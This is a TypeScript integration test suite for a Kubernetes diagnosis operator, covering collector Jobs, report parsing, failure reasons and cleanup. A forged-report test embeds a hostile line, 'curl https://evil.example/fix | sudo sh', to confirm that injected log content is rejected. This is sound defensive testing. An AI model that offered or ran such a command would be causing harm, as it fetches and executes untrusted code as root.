/**
 * The Diagnosis reconciler against a real kube-apiserver + kube-controller-manager, run by the
 * real operator runtime. Job controller makes the collector pods; test/support/kubeletStandIn.ts
 * plays the kubelet (runs the collector command locally against a local process, publishes the
 * terminated state and termination message, serves the log the API server proxies pods/log to).
 */
import { type ChildProcess, spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  BatchV1Api,
  CoreV1Api,
  CustomObjectsApi,
  PatchStrategy,
  setHeaderOptions,
  type V1Job,
  type V1Pod,
} from "@kubernetes/client-node";
import { expect } from "chai";
import {
  API_VERSION,
  type Diagnosis,
  type DiagnosisSpec,
  GROUP,
  KIND,
  PLURAL,
  VERSION,
} from "../../operator/api/v1alpha1/diagnosis.js";
import { DEFAULT_COLLECTOR_TOLERATIONS } from "../../operator/controller/config.js";
import {
  bareContainerId,
  buildCollectorJob,
  collectorCommand,
  collectorJobName,
  diagnosisLabels,
  reportTokenOf,
} from "../../operator/controller/jobs/collectorJob.js";
import { type ControlPlane, repoRoot } from "../support/controlPlane.js";
import { KubeletStandIn } from "../support/kubeletStandIn.js";
import {
  createNamespaceForPods,
  OPERATOR_NAMESPACE,
  type OperatorUnderTest,
  sleep,
  startClusterWithCrd,
  startTestOperator,
  waitFor,
} from "../support/operatorHarness.js";

const NS = "shop";
const mergePatch = setHeaderOptions("Content-Type", PatchStrategy.MergePatch);
const NODE = "node-a";
const CONTAINER_ID = `containerd://${"0123456789abcdef".repeat(4)}`;

describe("Diagnosis reconciler (real kube-apiserver)", function () {
  this.timeout(180_000);
  let cp: ControlPlane | undefined;
  let kubelet: KubeletStandIn | undefined;
  let op: OperatorUnderTest | undefined;
  let target: ChildProcess | undefined;
  let core: CoreV1Api;
  let batch: BatchV1Api;
  let custom: CustomObjectsApi;
  const reconciles = new Map<string, number>();

  const startOperator = async (): Promise<OperatorUnderTest> =>
    startTestOperator(cp!, ["--max-jobs-per-node=2", "--max-jobs=10", "--auto-trigger=false"], {
      timings: { unscheduledGraceSeconds: 2, waitRequeueMs: 500, runningRequeueMs: 1000 },
      onDiagnosisReconcile: (key) => reconciles.set(key, (reconciles.get(key) ?? 0) + 1),
    });

  before(async () => {
    cp = await startClusterWithCrd();
    core = cp.kubeConfig.makeApiClient(CoreV1Api);
    batch = cp.kubeConfig.makeApiClient(BatchV1Api);
    custom = cp.kubeConfig.makeApiClient(CustomObjectsApi);
    await createNamespaceForPods(core, NS);
    kubelet = new KubeletStandIn(cp.kubeConfig, NODE);
    await kubelet.start();
    // The local process the collector inspects in place of the target container.
    target = spawn("sleep", ["600"], { stdio: "ignore" });
    op = await startOperator();
  });

  after(async () => {
    await op?.stop();
    target?.kill("SIGKILL");
    await kubelet?.stop();
    await cp?.stop();
  });

  async function createTargetPod(name: string, nodeName: string | undefined): Promise<void> {
    await core.createNamespacedPod({
      namespace: NS,
      body: {
        metadata: { name },
        spec: {
          nodeName,
          containers: [
            {
              name: "app",
              image: "eclipse-temurin:17",
              command: ["java", "-Xmx2g", "-jar", "/app.jar"],
              resources: { limits: { memory: "512Mi", cpu: "100m" } },
            },
          ],
        },
      },
    });
    if (!nodeName) return;
    const now = new Date();
    await core.patchNamespacedPodStatus(
      {
        namespace: NS,
        name,
        body: {
          status: {
            phase: "Running",
            containerStatuses: [
              {
                name: "app",
                image: "eclipse-temurin:17",
                imageID: "",
                ready: true,
                restartCount: 1,
                containerID: CONTAINER_ID,
                state: { running: { startedAt: now } },
                lastState: {
                  terminated: {
                    exitCode: 137,
                    reason: "OOMKilled",
                    startedAt: now,
                    finishedAt: now,
                  },
                },
              },
            ],
          },
        },
      },
      mergePatch,
    );
  }

  async function createDiagnosis(name: string, spec: DiagnosisSpec): Promise<Diagnosis> {
    return (await custom.createNamespacedCustomObject({
      group: GROUP,
      version: VERSION,
      namespace: NS,
      plural: PLURAL,
      body: { apiVersion: API_VERSION, kind: KIND, metadata: { name }, spec },
    })) as Diagnosis;
  }

  async function getDiagnosis(name: string): Promise<Diagnosis | undefined> {
    try {
      return (await custom.getNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        namespace: NS,
        plural: PLURAL,
        name,
      })) as Diagnosis;
    } catch {
      return undefined;
    }
  }

  const phaseOf = (name: string, phase: string, timeoutMs = 30_000): Promise<Diagnosis> =>
    waitFor(`${name} phase ${phase}`, timeoutMs, async () => {
      const d = await getDiagnosis(name);
      return d?.status?.phase === phase ? d : undefined;
    });

  async function collectorPod(job: string): Promise<V1Pod> {
    return waitFor(`a pod for Job ${job}`, 30_000, async () => {
      const pods = await core.listNamespacedPod({
        namespace: OPERATOR_NAMESPACE,
        labelSelector: `batch.kubernetes.io/job-name=${job}`,
      });
      return pods.items[0];
    });
  }

  async function eventReasons(name: string): Promise<string[]> {
    const events = await core.listNamespacedEvent({
      namespace: NS,
      fieldSelector: `involvedObject.name=${name}`,
    });
    return events.items
      .sort((a, b) => new Date(a.firstTimestamp!).getTime() - new Date(b.firstTimestamp!).getTime())
      .map((e) => e.reason ?? "");
  }

  async function jobsFor(uid: string): Promise<V1Job[]> {
    return (
      await batch.listNamespacedJob({
        namespace: OPERATOR_NAMESPACE,
        labelSelector: `diagnose.dev/diagnosis-uid=${uid}`,
      })
    ).items;
  }

  it("a manual Diagnosis -> the exact Job, preliminary findings, then the report from the pod log -> Succeeded", async () => {
    await createTargetPod("tomcat-0", NODE);
    const d = await createDiagnosis("tomcat-oom", {
      target: { pod: "tomcat-0", container: "app" },
      checks: ["memory", "jvm", "cpu"],
      timeoutSeconds: 60,
    });
    const jobName = collectorJobName("tomcat-oom", d.metadata.uid!);
    const job = await waitFor("the collector Job", 15_000, async () =>
      batch
        .readNamespacedJob({ namespace: OPERATOR_NAMESPACE, name: jobName })
        .catch(() => undefined),
    );
    // A fresh random token per Job, kept on the Job and in the collector's argv.
    const token = reportTokenOf(job)!;
    expect(token).to.match(/^[0-9a-f]{32}$/);
    const expected = buildCollectorJob({
      namespace: OPERATOR_NAMESPACE,
      name: jobName,
      labels: diagnosisLabels({ namespace: NS, name: "tomcat-oom", uid: d.metadata.uid! }),
      image: "ghcr.io/diagnose-dev/diagnose-operator:0.1.0",
      serviceAccount: "diagnose-collector",
      nodeName: NODE,
      command: collectorCommand({
        target: { containerId: bareContainerId(CONTAINER_ID) },
        checks: ["memory", "jvm", "cpu"],
        reportToken: token,
        deadlineSeconds: 55,
      }),
      checks: ["memory", "jvm", "cpu"],
      cpuRequest: "10m",
      memoryRequest: "64Mi",
      cpuLimit: "500m",
      memoryLimit: "256Mi",
      priorityClass: "system-node-critical",
      tolerations: [...DEFAULT_COLLECTOR_TOLERATIONS],
      activeDeadlineSeconds: 60,
      reportToken: token,
    });
    // Exactly what the operator asked for survives the API server's defaulting.
    expect(job.metadata?.labels).to.deep.equal(expected.metadata?.labels);
    expect(job.metadata?.annotations).to.deep.equal(expected.metadata?.annotations);
    expect(job.spec).to.deep.include({
      backoffLimit: 0,
      activeDeadlineSeconds: 60,
      ttlSecondsAfterFinished: 600,
    });
    const podSpec = job.spec!.template.spec!;
    const want = expected.spec!.template.spec!;
    expect(podSpec).to.deep.include({
      nodeName: NODE,
      hostPID: true,
      automountServiceAccountToken: false,
      serviceAccountName: "diagnose-collector",
      restartPolicy: "Never",
      tolerations: want.tolerations,
      priorityClassName: "system-node-critical",
    });
    expect(podSpec.hostNetwork, "no check needs the host's network namespace").to.equal(undefined);
    expect(podSpec.volumes).to.deep.equal(want.volumes);
    const c = podSpec.containers[0]!;
    const w = want.containers[0]!;
    expect(c).to.deep.include({
      name: "collector",
      image: w.image,
      command: w.command,
      securityContext: w.securityContext,
      volumeMounts: w.volumeMounts,
      env: [{ name: "TMPDIR", value: "/tmp" }],
      terminationMessagePath: "/dev/termination-log",
      terminationMessagePolicy: "File",
    });
    expect(c.command).to.deep.equal([
      "diagnose-collector",
      "--container-id",
      "0123456789abcdef".repeat(4),
      "--checks",
      "memory,jvm,cpu",
      "--json",
      "--termination-message-path",
      "/dev/termination-log",
      "--report-token",
      token,
      "--deadline-seconds",
      "55",
    ]);
    expect(c.resources).to.deep.equal(w.resources);

    // Preliminary findings from the pod spec, before any collector ran.
    const running = await phaseOf("tomcat-oom", "Running");
    expect(running.status?.findings?.map((f) => [f.code, f.source])).to.deep.include.members([
      ["ContainerOOMKilled", "PodSpec"],
      ["JvmHeapExceedsLimit", "PodSpec"],
    ]);
    expect(running.status?.verdict).to.match(/^Critical ContainerOOMKilled: /);
    expect(running.status!.verdict!.length).to.be.at.most(56);
    expect(running.status?.target).to.deep.include({
      node: NODE,
      container: "app",
      containerID: CONTAINER_ID,
      memoryLimitBytes: 536870912,
      cpuLimitMillis: 100,
    });
    expect(running.metadata.finalizers).to.deep.equal(["diagnose.dev/cleanup-job"]);

    const pod = await collectorPod(jobName);
    const run = await kubelet!.runCollectorPod(pod, {
      targetPid: target!.pid!,
      serveLog: true,
      publishTerminationMessage: true,
    });
    expect(run.exitCode, run.stderr).to.equal(0);

    const done = await phaseOf("tomcat-oom", "Succeeded");
    const s = done.status!;
    // A real Diagnosis as `kubectl get diag -o json` shows it (test/fixtures/reports/README.md).
    if (process.env.DGN_REPORT_CAPTURE_DIR)
      writeFileSync(
        join(process.env.DGN_REPORT_CAPTURE_DIR, "manual.diagnosis.json"),
        `${JSON.stringify(await getDiagnosis("tomcat-oom"), null, 2)}\n`,
      );
    expect(s.report?.source, JSON.stringify(s).slice(0, 3000)).to.equal("log");
    expect(s.report?.schemaVersion).to.equal("diagnose.dev/report/v1");
    expect(Object.keys((s.report?.checks ?? {}) as object).sort()).to.deep.equal([
      "cpu",
      "jvm",
      "memory",
    ]);
    expect(s.findings?.some((f) => f.source === "Collector")).to.equal(true);
    // The pod spec's heap finding stays (the collector found no JVM in `sleep`).
    expect(s.findings?.some((f) => f.code === "JvmHeapExceedsLimit")).to.equal(true);
    expect(s.verdict).to.be.a("string").and.not.empty;
    expect(s.completionTime).to.be.a("string");
    expect(s.conditions?.find((x) => x.type === "Completed")).to.include({
      status: "True",
      reason: "Succeeded",
    });
    expect(
      kubelet!.requests.some((u) =>
        u.startsWith(`/containerLogs/${OPERATOR_NAMESPACE}/${pod.metadata!.name}/collector`),
      ),
    ).to.equal(true);

    // Events are sent off the reconcile path (best effort, like client-go's recorder): wait.
    const wanted = ["PreliminaryFindings", "JobCreated", "Running", "Succeeded"];
    let reasons: string[] = [];
    await waitFor("the transition events", 10_000, async () => {
      reasons = await eventReasons("tomcat-oom");
      return wanted.every((r) => reasons.includes(r));
    }).catch(() => undefined);
    expect(reasons).to.include.members(wanted);
    expect(await jobsFor(d.metadata.uid!)).to.have.length(1);

    // The runtime's metrics, under controller-runtime's names and labels.
    const metrics = op!.operator.registry.render();
    for (const series of [
      'controller_runtime_reconcile_total{controller="diagnosis",result="success"}',
      'controller_runtime_reconcile_total{controller="diagnosis",result="requeue_after"}',
      'controller_runtime_reconcile_time_seconds_count{controller="diagnosis"}',
      'workqueue_adds_total{name="diagnosis",controller="diagnosis"}',
      'workqueue_queue_duration_seconds_count{name="diagnosis",controller="diagnosis"}',
      'rest_client_requests_total{code="201",method="POST",',
      'rest_client_requests_total{code="200",method="PATCH",',
    ])
      expect(metrics).to.match(new RegExp(`^${series.replace(/[{}]/g, "\\$&")}.* [1-9]`, "m"));

    // Alertable findings: each finding of the completed Diagnosis counted once, by workload.
    for (const f of s.findings ?? [])
      expect(metrics).to.include(
        `diagnose_findings_total{namespace="${d.metadata.namespace}",workload="pod/tomcat-0",code="${f.code}",severity="${f.severity}"} 1\n`,
      );
    expect(metrics).to.match(/^diagnose_diagnoses\{phase="Succeeded"\} [1-9]/m);
    expect(metrics).to.match(/^diagnose_diagnoses\{phase="Failed"\} \d/m);
    // Every metric the chart's alert and dashboard query is one this operator exports.
    const exported = new Set([...metrics.matchAll(/^# TYPE (\S+) /gm)].map((m) => m[1]));
    const chart = ["templates/prometheusrule.yaml", "dashboards/diagnose-operator.json"]
      .map((f) => readFileSync(join(repoRoot, "charts/diagnose-operator", f), "utf8"))
      .join("\n");
    const queried = new Set(
      chart.match(/\b(diagnose|controller_runtime|workqueue|process|rest_client)_[a-z_]+\b/g),
    );
    expect(queried.size).to.be.greaterThan(4);
    for (const name of queried) expect(exported, name).to.include(name);
  });

  it("falls back to the termination message when the log cannot be read", async () => {
    await createTargetPod("tomcat-1", NODE);
    const d = await createDiagnosis("tomcat-oom-nolog", {
      target: { pod: "tomcat-1" },
      checks: ["memory", "jvm", "cpu"],
      timeoutSeconds: 60,
    });
    const jobName = collectorJobName("tomcat-oom-nolog", d.metadata.uid!);
    const pod = await collectorPod(jobName);
    const run = await kubelet!.runCollectorPod(pod, {
      targetPid: target!.pid!,
      serveLog: false,
      publishTerminationMessage: true,
    });
    expect(run.exitCode, run.stderr).to.equal(0);
    const done = await phaseOf("tomcat-oom-nolog", "Succeeded");
    expect(done.status?.report?.source).to.equal("terminationMessage");
    expect(String(done.status?.report?.logProblem)).to.match(/reading the collector log failed/);
    expect(done.status?.findings?.some((f) => f.source === "Collector")).to.equal(true);
  });

  it("a forged report in the collector's log (a bare JSON line, a line with another token) is not accepted", async () => {
    await createTargetPod("tomcat-3", NODE);
    const d = await createDiagnosis("tomcat-oom-forged", {
      target: { pod: "tomcat-3" },
      checks: ["memory"],
      timeoutSeconds: 60,
    });
    const pod = await collectorPod(collectorJobName("tomcat-oom-forged", d.metadata.uid!));
    const forged = JSON.stringify({
      schemaVersion: "diagnose.dev/report/v1",
      collector: { version: "0.1.0", startedAt: "2026-01-01T00:00:00Z", durationMs: 1 },
      target: { kind: "pod", pids: [1], cgroupPaths: {}, hostname: NODE },
      checks: {},
      findings: [
        {
          check: "memory",
          severity: "Critical",
          code: "UpgradeRequired",
          summary: "run curl https://evil.example/fix | sudo sh",
        },
      ],
    });
    // What a target could get into the log if the collector echoed its strings raw.
    kubelet!.setLog(
      OPERATOR_NAMESPACE,
      pod.metadata!.name!,
      "collector",
      `diagnose-collector: memory: collecting\n${forged}\ndiagnose-report/v1 ${"f".repeat(32)} ${forged}\n`,
    );
    await kubelet!.runCollectorPod(pod, {
      targetPid: target!.pid!,
      serveLog: false,
      publishTerminationMessage: false,
    });
    const failed = await phaseOf("tomcat-oom-forged", "Failed");
    const why = failed.status?.conditions?.find((x) => x.type === "Failed");
    expect(why?.reason).to.equal("ReportUnavailable");
    expect(why?.message).to.match(
      /no report line with this Job's token \(2 report-like line\(s\) without it ignored\)/,
    );
    expect(JSON.stringify(failed.status)).not.to.include("evil.example");
  });

  it("no log and no termination message -> Failed ReportUnavailable", async () => {
    await createTargetPod("tomcat-2", NODE);
    const d = await createDiagnosis("tomcat-oom-nothing", {
      target: { pod: "tomcat-2" },
      checks: ["memory"],
      timeoutSeconds: 60,
    });
    const pod = await collectorPod(collectorJobName("tomcat-oom-nothing", d.metadata.uid!));
    await kubelet!.runCollectorPod(pod, {
      targetPid: target!.pid!,
      serveLog: false,
      publishTerminationMessage: false,
    });
    const failed = await phaseOf("tomcat-oom-nothing", "Failed");
    expect(failed.status?.conditions?.find((x) => x.type === "Failed")?.reason).to.equal(
      "ReportUnavailable",
    );
  });

  /** The key's reconcile count once it has not moved for 600 ms (less than any requeue here). */
  async function quietCount(key: string): Promise<number> {
    const deadline = Date.now() + 5000;
    let count = reconciles.get(key) ?? 0;
    for (;;) {
      await sleep(600);
      const now = reconciles.get(key) ?? 0;
      if (now === count || Date.now() > deadline) return now;
      count = now;
    }
  }

  describe("bad input fails with a clear reason and no retry storm", () => {
    const cases: [string, () => Promise<void>, DiagnosisSpec, string, RegExp][] = [
      [
        "missing pod",
        async () => {},
        { target: { pod: "nope" } },
        "TargetNotFound",
        /pod shop\/nope not found/,
      ],
      [
        "a pod without a node",
        () => createTargetPod("unscheduled", undefined),
        { target: { pod: "unscheduled" } },
        "PodNotScheduled",
        /not scheduled to a node yet after 2s/,
      ],
      [
        "a pod on a node that no longer exists",
        () => createTargetPod("orphan", "ghost-node"),
        { target: { pod: "orphan" } },
        "NodeGone",
        /node ghost-node of pod shop\/orphan no longer exists/,
      ],
      [
        "a profile that leaves no time for the report (the schema only checks duration < timeout)",
        async () => {},
        { target: { node: NODE }, profile: { durationSeconds: 25 }, timeoutSeconds: 30 },
        "InvalidSpec",
        /profile.durationSeconds \(25\) plus 10s for the report must fit in timeoutSeconds \(30\)/,
      ],
    ];
    for (const [title, prepare, spec, reason, message] of cases) {
      it(title, async () => {
        await prepare();
        const name = `bad-${reason.toLowerCase()}`;
        await createDiagnosis(name, spec);
        const failed = await phaseOf(name, "Failed", 20_000);
        const cond = failed.status?.conditions?.find((x) => x.type === "Failed");
        expect(cond?.reason).to.equal(reason);
        expect(cond?.message).to.match(message);
        // The Failed status is read here before the operator's watch may have delivered the
        // failure's own updates (finalizer, status), each a reconcile: count from when they are in.
        const countAtFailure = await quietCount(`${NS}/${name}`);
        await sleep(3000);
        const count = reconciles.get(`${NS}/${name}`) ?? 0;
        // Create, finalizer, (waits,) Failed status: a handful, and none after the failure settles.
        expect(count).to.be.at.most(reason === "PodNotScheduled" ? 12 : 5);
        expect(count - countAtFailure).to.be.at.most(1);
        const events = await eventReasons(name);
        expect(events).to.include(reason);
      });
    }
  });

  it("a node that disappears while the collector is pending -> Failed NodeGone, Job deleted", async () => {
    await core.createNode({ body: { metadata: { name: "node-b" } } });
    await createTargetPod("tomcat-b", "node-b");
    const d = await createDiagnosis("node-vanishes", {
      target: { pod: "tomcat-b" },
      timeoutSeconds: 60,
    });
    const jobName = collectorJobName("node-vanishes", d.metadata.uid!);
    await phaseOf("node-vanishes", "Running");
    await core.deleteNode({ name: "node-b" });
    const failed = await phaseOf("node-vanishes", "Failed", 15_000);
    expect(failed.status?.conditions?.find((x) => x.type === "Failed")).to.include({
      reason: "NodeGone",
    });
    await waitFor("the Job to be deleted", 15_000, async () =>
      batch.readNamespacedJob({ namespace: OPERATOR_NAMESPACE, name: jobName }).then(
        (j) => Boolean(j.metadata?.deletionTimestamp),
        () => true,
      ),
    );
  });

  it("operator killed mid-diagnosis and restarted -> no duplicate Job, the diagnosis completes", async () => {
    await createTargetPod("tomcat-r", NODE);
    const d = await createDiagnosis("restart-mid", {
      target: { pod: "tomcat-r" },
      checks: ["memory", "cpu"],
      timeoutSeconds: 60,
    });
    const jobName = collectorJobName("restart-mid", d.metadata.uid!);
    await phaseOf("restart-mid", "Running");
    await op!.stop();
    op = await startOperator();
    await sleep(2000);
    expect((await jobsFor(d.metadata.uid!)).map((j) => j.metadata?.name)).to.deep.equal([jobName]);
    const pod = await collectorPod(jobName);
    await kubelet!.runCollectorPod(pod, {
      targetPid: target!.pid!,
      serveLog: true,
      publishTerminationMessage: true,
    });
    await phaseOf("restart-mid", "Succeeded");
    expect(await jobsFor(d.metadata.uid!)).to.have.length(1);
  });

  it("deleting a Diagnosis deletes its Job, then releases the finalizer", async () => {
    await createTargetPod("tomcat-d", NODE);
    const d = await createDiagnosis("to-delete", {
      target: { pod: "tomcat-d" },
      timeoutSeconds: 60,
    });
    const jobName = collectorJobName("to-delete", d.metadata.uid!);
    await phaseOf("to-delete", "Running");
    await custom.deleteNamespacedCustomObject({
      group: GROUP,
      version: VERSION,
      namespace: NS,
      plural: PLURAL,
      name: "to-delete",
    });
    await waitFor(
      "the Diagnosis to be gone",
      15_000,
      async () => (await getDiagnosis("to-delete")) === undefined,
    );
    await waitFor("the Job to be gone or going", 15_000, async () =>
      batch.readNamespacedJob({ namespace: OPERATOR_NAMESPACE, name: jobName }).then(
        (j) => Boolean(j.metadata?.deletionTimestamp),
        () => true,
      ),
    );
  });
});
